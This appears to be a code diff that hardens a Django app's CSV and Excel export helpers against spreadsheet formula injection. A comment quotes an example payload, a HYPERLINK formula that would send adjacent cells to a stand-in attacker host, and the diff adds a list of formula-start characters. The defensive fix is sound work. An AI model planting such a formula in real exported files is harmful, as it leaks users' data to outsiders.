@@ -3,6 +3,7 @@
 import csv
 import io
 import json
+import re
 
 from django.http import HttpResponse
 from openpyxl import Workbook
@@ -10,6 +11,27 @@ from openpyxl.styles import Font
 
 CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
 XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+# Text starting with one of these is run as a formula when a spreadsheet program opens a CSV
+# file: a complaint's subject `=HYPERLINK("http://attacker.example/?"&C3)` would send the
+# neighbouring cells to whoever wrote it the moment a clerk clicks.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"[+-]?[\d,]*\.?\d+")
+
+
+def spreadsheet_text(value):
+    """A cell as a spreadsheet program should show it, never run it: text that would start a
+    formula gets an apostrophe in front, which the program shows as text (OWASP's advice).
+    Numbers, text that is just a number such as "-1,250.00", and a lone "-" (a blank in a
+    printed form) stay as they are."""
+    if (
+        isinstance(value, str)
+        and len(value) > 1
+        and value.startswith(FORMULA_STARTS)
+        and not PLAIN_NUMBER.fullmatch(value)
+    ):
+        return "'" + value
+    return value
 
 
 def attachment(content, content_type, filename):
@@ -22,9 +44,10 @@ def attachment(content, content_type, filename):
 
 def csv_lines_download(filename, lines):
     """Every line a list of cells. UTF-8 with a byte order mark: without it Excel reads the
-    Thai as Windows-874 garbage."""
+    Thai as Windows-874 garbage. Every CSV file of the project is written here, so that none
+    carries a formula (`spreadsheet_text`)."""
     buffer = io.StringIO()
-    csv.writer(buffer).writerows(lines)
+    csv.writer(buffer).writerows([spreadsheet_text(cell) for cell in line] for line in lines)
     return attachment(("\ufeff" + buffer.getvalue()).encode("utf-8"), CSV_CONTENT_TYPE, filename)
 
 
@@ -54,6 +77,13 @@ def fill_sheet(sheet, headings, rows, widths=()):
 
 
 def workbook_download(workbook, filename):
+    """Every Excel file of the project is sent from here. openpyxl stores text beginning with
+    "=" as a formula; each such cell is stored back as the text it is."""
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                if cell.data_type == "f":
+                    cell.data_type = "s"
     buffer = io.BytesIO()
     workbook.save(buffer)
     return attachment(buffer.getvalue(), XLSX_CONTENT_TYPE, filename)
